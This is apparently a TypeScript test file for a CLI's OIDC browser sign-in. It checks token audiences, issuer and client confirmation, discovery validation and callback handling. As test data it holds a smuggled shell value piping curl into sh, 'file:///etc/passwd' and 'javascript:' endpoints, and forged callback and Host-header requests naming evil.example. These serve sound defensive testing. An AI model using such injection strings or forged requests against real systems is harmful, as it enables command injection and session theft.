import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer as createTcpServer } from 'node:net';
import { type TestContext as Test, test } from 'node:test';
import { request } from 'undici';
import { login } from '../../../../cli/commands/login.ts';
import { findSessions } from '../../../../cli/identity/tokens/token-store.ts';
import { listDeployments, rememberDeployment } from '../../../../cli/settings/deployments.ts';
import { flatText } from '../../../support/flat.ts';
import { headlessBrowser } from '../../../support/headless-browser.ts';
import { addressIn, failure, openRig, type Rig } from './rig.ts';
import { openStandIn, type StandIn } from './stand-in.ts';

interface Given {
  readonly rig: Rig;
  readonly provider: StandIn;
}

/** Opens an edge that names a provider. The test sets all of the provider's responses. */
async function open(t: Test, more: Record<string, unknown> = {}, local = true): Promise<Given> {
  const [rig, provider] = await Promise.all([openRig(t, { local }), openStandIn(t)]);
  rig.issuers = [
    {
      alias: 'corp',
      kind: 'people',
      issuer: provider.issuer,
      clientId: 'edge-upload',
      token: 'access',
      preset: 'oidc',
      ...more,
    },
  ];
  provider.claims = { aud: rig.url };
  return { rig, provider };
}

type LoginArgs = Parameters<typeof login>[1];

function begin(rig: Rig, args: LoginArgs = {}, options: Parameters<Rig['context']>[0] = {}) {
  const context = rig.context(options);
  const way = rig.issuers[0]?.kind === 'pool' ? {} : { browser: true, callbackPort: 0 };
  const ended = login(context, { url: rig.url, ...way, ...args });
  // The test checks the result later.
  ended.catch(() => {});
  return { context, ended };
}

/** Completes a sign-in. */
async function signIn(rig: Rig, args: LoginArgs = {}, options: Parameters<Rig['context']>[0] = {}) {
  const { context, ended } = begin(rig, args, options);
  const shown = await Promise.race([
    context.shown(/The browser opens/),
    ended.then(
      () => '',
      () => '',
    ),
  ]);
  if (shown !== '')
    await headlessBrowser()
      .open(addressIn(shown))
      .catch(() => {});
  return { context, result: await ended };
}

/** Asserts that nothing was stored, and that the edge received no token. */
async function nothingIsOut({ rig }: Given): Promise<void> {
  assert.deepEqual(rig.received, []);
  assert.deepEqual((await findSessions(rig.context(), rig.url)).sessions, []);
}

test('neither sends nor stores a token for another service', async (t) => {
  const cases: readonly (readonly [string, Record<string, unknown>])[] = [
    ['another audience', { aud: 'https://management.azure.com' }],
    ['sts', { aud: 'sts.amazonaws.com' }],
    ['several audiences', { aud: ['https://graph.microsoft.com', 'x'] }],
    ['the client, which nobody accepted', { aud: 'edge-upload' }],
    ['no audience, the client', { aud: undefined, client_id: 'edge-upload' }],
    ['an empty list', { aud: [] }],
    ['no audience', { aud: undefined }],
    ['no audience, another client', { aud: undefined, client_id: 'other' }],
    ['an audience that begins like the edge', { aud: 'http://127.0.0.1' }],
  ];
  const given = await open(t);
  const own = given.rig.url;
  const mixed = [['own and another', { aud: [own, 'sts.amazonaws.com'] }]] as const;
  for (const [name, claims] of [...cases, ...mixed]) {
    given.provider.claims = claims;
    const error = await failure(signIn(given.rig));
    assert.deepEqual([error.code, error.exitCode], ['sign_in_refused', 4], name);
    await nothingIsOut(given);
  }
  for (const answer of [
    { access_token: 'opaque', token_type: 'Bearer' },
    { access_token: 'a.b.c', token_type: 'Bearer' },
    { token_type: 'Bearer' },
    { access_token: 'x', token_type: 'mac' },
    [],
    'token',
    { error: 'server_error', error_description: `failed\u001b[2J ${'x'.repeat(5000)}` },
  ]) {
    given.provider.tokenAnswer = answer;
    const error = await failure(signIn(given.rig));
    assert.equal(error.code, 'sign_in_refused', JSON.stringify(answer).slice(0, 80));
    assert.ok(error.message.length < 700);
    await nothingIsOut(given);
  }
});

test('neither sends nor stores a token without a subject', async (t) => {
  const given = await open(t);
  for (const sub of [undefined, '', 7, ['ada'], null]) {
    given.provider.claims = { aud: given.rig.url, sub };
    const error = await failure(signIn(given.rig));
    assert.equal(error.code, 'sign_in_refused', String(sub));
    assert.match(error.message, /names no user/);
    await nothingIsOut(given);
  }
});

test('asks the user to confirm an audience that the edge names, then remembers it', async (t) => {
  const given = await open(t, { audience: 'sts.amazonaws.com' });
  const { rig, provider } = given;
  const without = await failure(signIn(rig));
  assert.deepEqual([without.code, without.exitCode], ['usage', 2]);
  assert.match(without.hint ?? '', /--audience sts\.amazonaws\.com/);
  const refused = await failure(signIn(rig, {}, { answers: { 'Request a token for “sts': false } }));
  assert.equal(refused.code, 'sign_in_refused');
  assert.deepEqual(provider.requests, [], 'no request reaches the provider');
  await nothingIsOut(given);

  rig.issuers = [{ ...rig.issuers[0], audience: 'api://files' }];
  provider.claims = { aud: 'api://files' };
  await signIn(rig, { audience: 'api://files' });
  assert.equal(provider.authorized.at(-1)?.get('resource'), 'api://files');
  assert.equal(rig.received.length, 1);
  const [known] = await listDeployments(rig.context());
  assert.equal(known?.issuers?.[0]?.audience, 'api://files');
  await signIn(rig);
  assert.equal(rig.received.length, 2, 'the same audience needs no second confirmation');
});

test('quotes texts of an edge in commands to copy', async (t) => {
  const hostile = "x;$(curl,evil)|sh'";
  const quoted = String.raw`'x;$(curl,evil)|sh'\'''`;
  const given = await open(t, { audience: hostile });
  const { rig } = given;
  const without = await failure(signIn(rig));
  assert.equal(without.hint, `Confirm it with --audience ${quoted}.`);
  const refused = await failure(signIn(rig, {}, { answers: { 'Request a token for': false } }));
  assert.equal(refused.hint?.split('\n').at(-1), `  edge-upload login ${rig.url} --audience ${quoted}`);
  await nothingIsOut(given);

  rig.issuers = [{ ...rig.issuers[0], audience: undefined }];
  rig.writeTo = [hostile, 'corp/'];
  const { text = '' } = (await signIn(rig)).result;
  assert.equal(flatText(text).split('\n').at(-1), `  edge-upload put <file> --prefix ${quoted}`);
});

test('asks the user to confirm a client ID that the edge names, then remembers it', async (t) => {
  const given = await open(t);
  const { rig, provider } = given;
  const [corp] = rig.issuers;
  for (const named of [
    { clientId: 'kubernetes', token: 'id' },
    { clientId: 'hr-app', audience: 'hr-app' },
    { clientId: 'hr-app', audience: 'api://hr-app' },
  ]) {
    rig.issuers = [{ ...corp, ...named }];
    const without = await failure(signIn(rig));
    assert.deepEqual([without.code, without.exitCode], ['usage', 2]);
    assert.match(without.hint ?? '', /--accept-issuer/);
    const refused = await failure(signIn(rig, {}, { answers: { 'Sign in at 127': false } }));
    assert.equal(refused.code, 'sign_in_refused');
    assert.match(refused.message, /no token of (kubernetes|hr-app)/);
  }
  assert.deepEqual(provider.requests, [], 'no request reaches the provider');
  await nothingIsOut(given);

  // The remembered consent for the client covers only tokens for the edge.
  rig.issuers = [{ ...corp }];
  await signIn(rig);
  rig.issuers = [{ ...corp, token: 'id' }];
  assert.equal(
    (await failure(signIn(rig))).code,
    'usage',
    'consent to a client does not cover its ID tokens',
  );
  await signIn(rig, {}, { answers: { 'Sign in at 127': true } });
  await signIn(rig);
  assert.equal(rig.received.length, 3, 'the same application needs no second confirmation');
});

test('accepts the issuer’s userinfo endpoint as an audience beside the edge', async (t) => {
  const { rig, provider } = await open(t, { preset: 'auth0' });
  provider.claims = { aud: [rig.url, `${provider.issuer}/userinfo`] };
  await signIn(rig);
  assert.equal(rig.received.length, 1);
});

test('treats a preset with a name of Object.prototype as an unknown one', async (t) => {
  const { rig } = await open(t, { preset: 'constructor' });
  await signIn(rig);
  assert.equal(rig.received.length, 1);
});

const CI = {
  alias: 'github',
  kind: 'workload',
  issuer: 'https://token.actions.githubusercontent.com',
  token: 'id',
};
const POOL = {
  alias: 'cognito',
  kind: 'pool',
  issuer: 'https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Evil00000',
  clientId: 'evil',
  token: 'access',
};

test('treats a switch between user pool and provider as a change of issuer', async (t) => {
  const given = await open(t);
  const { rig, provider } = given;
  const [corp] = rig.issuers;
  const [known] = await listDeployments(rig.context());
  const pool = { region: 'us-east-1', userPoolId: 'us-east-1_Abc000000', clientId: 'c1' };
  await rememberDeployment(rig.context(), { ...(known ?? assert.fail()), ...pool });
  for (const issuers of [[corp], [corp, CI], [POOL], [POOL, CI]]) {
    rig.issuers = issuers.map((one) => ({ ...one }));
    const refused = await failure(signIn(rig));
    assert.equal(refused.code, 'usage');
    assert.match(refused.hint ?? '', /--accept-issuer/);
  }
  assert.deepEqual(provider.requests, []);
  await nothingIsOut(given);
  rig.issuers = [{ ...corp }];
  await signIn(rig, { issuer: 'corp' });
  assert.equal(rig.received.length, 1, 'an issuer named by the user needs no confirmation');
});

test('asks to confirm a changed client or issuer, and refuses it without a terminal', async (t) => {
  const given = await open(t);
  const { rig, provider } = given;
  await signIn(rig);
  const [corp] = rig.issuers;
  const evil = await openStandIn(t);
  evil.claims = { aud: rig.url };
  const changes: readonly (readonly Record<string, unknown>[])[] = [
    [{ ...corp, clientId: 'another-app' }],
    [{ ...corp, issuer: evil.issuer }],
    [{ ...corp, issuer: evil.issuer, alias: 'other' }],
    [{ ...corp, issuer: evil.issuer, alias: 'other' }, CI],
    [POOL],
  ];
  for (const issuers of changes) {
    rig.issuers = [...issuers];
    const before = [provider.requests.length, rig.received.length];
    const refused = await failure(signIn(rig));
    assert.deepEqual([refused.code, refused.exitCode], ['usage', 2]);
    assert.match(refused.hint ?? '', /--accept-issuer/);
    const { context, ended } = begin(rig, {}, { answers: { 'Sign in there?': false } });
    assert.equal((await failure(ended)).code, 'sign_in_refused');
    assert.ok(context.events.some(({ type }) => type === 'warning'));
    assert.deepEqual([provider.requests.length, rig.received.length], before);
    assert.deepEqual(evil.requests, []);
  }
  rig.issuers = [{ ...corp, clientId: 'another-app' }];
  await signIn(rig, { acceptIssuer: true });
  await signIn(rig);
  assert.equal(rig.received.length, 3, 'the accepted client replaces the recorded one');
});

test('accepts only the issuer that its own document names, over https', async (t) => {
  const given = await open(t);
  const { rig, provider } = given;
  for (const issuer of [
    `${provider.issuer}/`,
    provider.issuer.replace('127.0.0.1', 'localhost'),
    'https://login.acme.com',
    undefined,
  ]) {
    provider.metadata = { issuer };
    const error = await failure(signIn(rig));
    assert.equal(error.code, 'sign_in_refused', String(issuer));
  }
  provider.metadata = {};
  for (const [code, status, body, location] of [
    ['unreachable', 302, '', 'https://login.acme.com/'],
    ['unreachable', 404, 'not here'],
    ['unreachable', 200, '<html>sign in to the network</html>'],
    ['sign_in_refused', 200, 'null'],
    ['unreachable', 200, `{"issuer":"${provider.issuer}","x":"${'x'.repeat(300_000)}"}`],
  ] as const) {
    provider.discovery = { status, body, ...(location && { location }) };
    const error = await failure(signIn(rig));
    assert.equal(error.code, code, `${status} ${body.slice(0, 40)}`);
  }
  provider.discovery = undefined;
  for (const authorization_endpoint of [
    'http://login.acme.com/auth',
    'javascript:alert(1)',
    'https://a@login.acme.com/',
    'file:///etc/passwd',
  ]) {
    provider.metadata = { authorization_endpoint };
    const { context, ended } = begin(rig);
    const error = await failure(ended);
    assert.equal(error.code, 'sign_in_refused', authorization_endpoint);
    assert.ok(
      !context.events.some(({ type }) => type === 'task-failed'),
      'the sign-in fails before it waits',
    );
  }
  provider.metadata = { token_endpoint: 'http://login.acme.invalid/token' };
  const plain = await failure(signIn(rig));
  assert.match(plain.message, /http:\/\/login\.acme\.invalid/);
  await nothingIsOut(given);
});

test('accepts plain http only for providers of an embedded deployment', async (t) => {
  const given = await open(t, {}, false);
  const error = await failure(signIn(given.rig));
  assert.equal(error.code, 'sign_in_refused');
  assert.match(error.message, /not an https address/);
  assert.deepEqual(given.provider.requests, []);
  await nothingIsOut(given);
});

test('refuses foreign callbacks until the right one ends the sign-in', async (t) => {
  const given = await open(t);
  const { rig, provider } = given;
  const { context, ended } = begin(rig);
  const address = new URL(addressIn(await context.shown(/The browser opens/)));
  const redirect = address.searchParams.get('redirect_uri') ?? '';
  const state = address.searchParams.get('state') ?? '';
  assert.equal(address.searchParams.get('code_challenge_method'), 'S256');
  const strangers: readonly (readonly [string, number])[] = [
    [`${redirect}`, 400],
    [`${redirect}?code=evil`, 400],
    [`${redirect}?code=evil&state=wrong`, 400],
    [`${redirect}?error=access_denied`, 400],
    [`${redirect}?error=access_denied&state=${state.slice(1)}`, 400],
    [`${redirect}?code=evil&state=${state}&state=x`, 400],
    [redirect.replace('/callback', '/favicon.ico'), 404],
    [redirect.replace('/callback', '/'), 404],
    [redirect.replace('/callback', '//evil.example/callback'), 404],
  ];
  for (const [url, status] of strangers) {
    const response = await fetch(url);
    assert.equal(response.status, status, url);
    assert.doesNotMatch(await response.text(), /evil/);
  }
  const posted = await fetch(`${redirect}?code=evil&state=${state}`, { method: 'POST' });
  assert.equal(posted.status, 400);
  const { port } = new URL(redirect);
  for (const host of [
    'evil.example',
    `evil.example:${port}`,
    '127.0.0.1',
    '127.0.0.1:1',
    `localhost:${port}`,
    `127.0.0.1.:${port}`,
  ]) {
    const rebound = await request(`${redirect}?code=evil&state=${state}`, { headers: { host } });
    assert.equal(rebound.statusCode, 400, host);
    assert.doesNotMatch(await rebound.body.text(), /evil/);
  }
  await headlessBrowser().open(address.href);
  await ended;
  assert.equal(provider.codes.length, 1);
  await assert.rejects(fetch(redirect), 'the port is closed');
});

test('ends the sign-in if the callback names another issuer or an error', async (t) => {
  const given = await open(t);
  const { rig, provider } = given;
  provider.redirectWith = { iss: 'https://evil.example' };
  provider.metadata = { authorization_response_iss_parameter_supported: true };
  assert.equal((await failure(signIn(rig))).code, 'sign_in_refused');
  provider.redirectWith = {};
  assert.equal((await failure(signIn(rig))).code, 'sign_in_refused', 'a promised iss is missing');
  provider.metadata = {};
  provider.redirectWith = {
    error: 'access_denied',
    error_description: 'AADSTS53003: Access has been blocked.',
  };
  const blocked = await failure(signIn(rig));
  assert.match(blocked.message, /Access has been blocked/);
  assert.match(blocked.hint ?? '', /tenant forbids/);
  // Error codes are compared as whole numbers: 700024 is not 70002.
  provider.redirectWith = { error: 'invalid_request', error_description: 'AADSTS700024: Not valid now.' };
  assert.doesNotMatch(String((await failure(signIn(rig))).hint), /public client flows/);
  assert.deepEqual(provider.codes, []);
  await nothingIsOut(given);
});

test('stops waiting for the browser at Ctrl-C, and closes the port', async (t) => {
  const { rig } = await open(t);
  const { context, ended } = begin(rig);
  const address = new URL(addressIn(await context.shown(/The browser opens/)));
  context.abort.abort();
  const error = await ended.then(
    () => assert.fail(),
    (thrown) => thrown,
  );
  assert.equal(error.code, 'interrupted');
  await assert.rejects(fetch(address.searchParams.get('redirect_uri') ?? ''));
});

test('listens on the first free registered port, or on that of the flag', async (t) => {
  const { rig } = await open(t);
  const taken = createTcpServer();
  await once(taken.listen(0, '127.0.0.1'), 'listening');
  t.after(() => taken.close());
  const { port } = taken.address() as { port: number };
  const busy = await failure(signIn(rig, { callbackPort: port }));
  assert.equal(busy.code, 'busy');
  assert.match(busy.hint ?? '', /--callback-port/);
});

test('listens on IPv4 and IPv6 if the redirect address is localhost', async (t) => {
  const given = await open(t, { preset: 'entra', token: 'id' });
  const { context, ended } = begin(given.rig, { callbackPort: 0, acceptIssuer: true });
  const address = new URL(addressIn(await context.shown(/The browser opens/)));
  const redirect = new URL(address.searchParams.get('redirect_uri') ?? '');
  assert.equal(redirect.hostname, 'localhost');
  assert.equal(address.searchParams.get('resource'), null, 'Entra refuses the parameter');
  const families = await Promise.all(
    ['127.0.0.1', '[::1]'].map(async (host) => {
      const response = await fetch(`http://${host}:${redirect.port}/callback`).catch(() => undefined);
      return response?.status;
    }),
  );
  assert.equal(families[0], 400);
  // A computer without IPv6 listens on IPv4 only.
  assert.ok(families[1] === 400 || families[1] === undefined);
  given.provider.claims = { aud: 'edge-upload' };
  await headlessBrowser().open(address.href.replace('localhost%3A', 'localhost%3A'));
  await ended;
});

test('remembers the confirmed issuers when the operator deploys again', async (t) => {
  const { rig } = await open(t);
  const { context } = await signIn(rig);
  const [known] = await listDeployments(context);
  const { issuers: _, ...deployed } = known ?? assert.fail();
  await rememberDeployment(context, deployed);
  assert.equal((await listDeployments(context))[0]?.issuers?.length, 1);
});
